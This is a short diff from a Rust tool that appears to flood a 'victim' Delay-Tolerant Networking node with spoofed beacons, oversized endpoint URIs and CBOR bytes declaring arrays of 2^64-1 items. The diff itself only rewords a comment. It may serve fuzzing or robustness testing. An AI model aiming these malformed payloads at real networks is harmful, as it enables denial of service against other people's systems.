@@ -62,7 +62,7 @@ fn run(target: &Target) -> Result<Outcome> {
                 send(&spoofed, &beacon(&format!("ipn:{}.0", 500_000 + number), number, port, 5));
             }
             4 => send(any, &beacon(&format!("dtn://{}/", "x".repeat(number as usize % 1200)), number, port, 600)),
-            // An array without an end, of arrays without one.
+            // Nested arrays of 2^64 - 1 items each.
             _ => send(any, &[0x9b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff].repeat(100)),
         }
         // The victim's backlog is bounded, so it is emptied regularly.
